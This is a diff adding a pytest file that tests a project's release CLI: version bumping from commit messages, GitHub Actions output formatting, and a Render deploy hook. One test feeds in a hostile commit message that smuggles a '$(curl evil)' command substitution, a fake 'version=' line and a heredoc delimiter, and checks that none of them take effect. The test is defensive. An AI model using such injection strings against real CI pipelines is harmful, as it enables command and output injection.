@@ -1,0 +1,149 @@
+"""The commands the release workflow runs, as it runs them."""
+
+from __future__ import annotations
+
+import json
+import subprocess
+import sys
+
+import pytest
+
+from cryptopredict.release.cli import github_outputs, main
+
+DIGEST = "sha256:" + "ab" * 32
+BUILT = "2026-03-09T18:00:07Z"
+
+
+def outputs(text: str) -> dict[str, str]:
+    """Parse $GITHUB_OUTPUT syntax back into a mapping, as the runner does."""
+    values: dict[str, str] = {}
+    lines = iter(text.splitlines())
+    for line in lines:
+        if "<<" in line:
+            name, delimiter = line.split("<<", 1)
+            values[name] = "\n".join(iter(lines.__next__, delimiter))
+        else:
+            name, value = line.split("=", 1)
+            values[name] = value
+    return values
+
+
+def next_version(capsys, *args: str) -> dict[str, str]:
+    base = ["next-version", "--repository", "Octo/CryptoPredict", "--built-at", BUILT]
+    assert main([*base, *args]) == 0
+    return outputs(capsys.readouterr().out)
+
+
+def test_a_push_prints_every_output_the_workflow_reads(capsys):
+    got = next_version(
+        capsys, "--event", "push", "--head-message", "Add #minor", "--tags", "v0.4.2"
+    )
+    assert got == {
+        "version": "0.5.0",
+        "tag": "v0.5.0",
+        "create-tag": "true",
+        "build-tag": "0.5.0-20260309180007",
+        "created": "2026-03-09T18:00:07Z",
+        "image": "ghcr.io/octo/cryptopredict",
+        "image-tags": "latest\n0.5.0\n0.5.0-20260309180007",
+    }
+
+
+def test_a_schedule_reuses_the_latest_tag(capsys):
+    got = next_version(capsys, "--event", "schedule", "--tags", "v0.4.2\nv0.4.10\nnightly")
+    assert (got["version"], got["create-tag"]) == ("0.4.10", "false")
+
+
+def test_the_first_version_is_configurable_and_empty_means_the_default(capsys):
+    assert next_version(capsys, "--event", "push", "--first-version", "1.0.0")["version"] == "1.0.0"
+    assert next_version(capsys, "--event", "push", "--first-version", "")["version"] == "0.1.0"
+
+
+def test_a_hostile_commit_message_only_ever_chooses_the_bump(capsys):
+    message = 'x"\nversion=6.6.6\n$(curl evil) #major\nEOF\ncreate-tag=false'
+    got = next_version(capsys, "--event", "push", "--head-message", message, "--tags", "v0.4.2")
+    assert (got["version"], got["create-tag"]) == ("1.0.0", "true")
+    assert "evil" not in json.dumps(got)
+
+
+@pytest.mark.parametrize("message", ["--help", "-x", "--event=schedule", "- fix #minor"])
+def test_a_message_that_looks_like_an_option_is_still_a_message(capsys, message):
+    got = next_version(capsys, "--event", "push", f"--head-message={message}", "--tags", "v0.4.2")
+    assert got["version"] == ("0.5.0" if "#minor" in message else "0.4.3")
+
+
+def test_a_bad_first_version_fails_with_what_to_write(capsys):
+    code = main(["next-version", "--event", "push", "--repository", "o/r", "--first-version", "v1"])
+    assert code == 1
+    assert "expected MAJOR.MINOR.PATCH" in capsys.readouterr().err
+
+
+def test_without_the_hook_secret_the_deploy_says_so_and_succeeds(capsys):
+    code = main(deploy_args(), environ={"RENDER_SERVICE_URL": "https://x.onrender.com"})
+    assert code == 0
+    out = capsys.readouterr().out
+    assert "RENDER_DEPLOY_HOOK_URL is not set: skipping the Render deploy" in out
+    assert f"ghcr.io/octo/cryptopredict@{DIGEST} is published" in out
+
+
+def test_a_hook_without_a_service_url_fails_before_deploying(capsys, server):
+    server.answer(200, "{}")
+    code = main(deploy_args(), environ={"RENDER_DEPLOY_HOOK_URL": f"{server.url}/deploy?key=k"})
+    assert code == 1
+    assert "RENDER_SERVICE_URL is not" in capsys.readouterr().err
+    assert server.requests == []
+
+
+def test_the_deploy_triggers_the_hook_then_waits_for_the_new_version(capsys, server):
+    server.answer(201, '{"deploy": {"id": "dep-9"}}')
+    server.answer(200, '{"model_version": "0.5.0-20260309180007"}')
+    environ = {
+        "RENDER_DEPLOY_HOOK_URL": f"{server.url}/deploy/srv-1?key=k",
+        "RENDER_SERVICE_URL": f"{server.url}/",
+    }
+    assert main(deploy_args(), environ=environ) == 0
+    assert [method for method, _ in server.requests] == ["POST", "GET"]
+    assert server.requests[1][1] == "/healthz"
+    out = capsys.readouterr().out
+    assert "Render deploy dep-9 started" in out
+    assert "reports model version 0.5.0-20260309180007" in out
+
+
+def test_a_deploy_that_never_reports_the_version_fails(capsys, server):
+    server.answer(200, '{"deploy": {"id": "dep-9"}}')
+    server.answer(200, '{"model_version": "0.4.0-20260309120000"}')
+    environ = {
+        "RENDER_DEPLOY_HOOK_URL": f"{server.url}/deploy/srv-1?key=k",
+        "RENDER_SERVICE_URL": server.url,
+    }
+    args = [*deploy_args(), "--timeout", "0.2", "--interval", "0.1"]
+    assert main(args, environ=environ) == 1
+    assert "did not report model version 0.5.0-20260309180007" in capsys.readouterr().err
+
+
+def test_multiline_outputs_refuse_a_value_holding_the_delimiter():
+    with pytest.raises(ValueError, match="delimiter"):
+        github_outputs({"tags": "a\nEOF\nb"})
+
+
+def test_the_module_runs_as_a_script():
+    result = subprocess.run(
+        [sys.executable, "-m", "cryptopredict.release", "--help"],
+        capture_output=True,
+        text=True,
+        check=True,
+    )
+    assert "next-version" in result.stdout
+    assert "deploy" in result.stdout
+
+
+def deploy_args() -> list[str]:
+    return [
+        "deploy",
+        "--image",
+        "ghcr.io/octo/cryptopredict",
+        "--digest",
+        DIGEST,
+        "--model-version",
+        "0.5.0-20260309180007",
+    ]
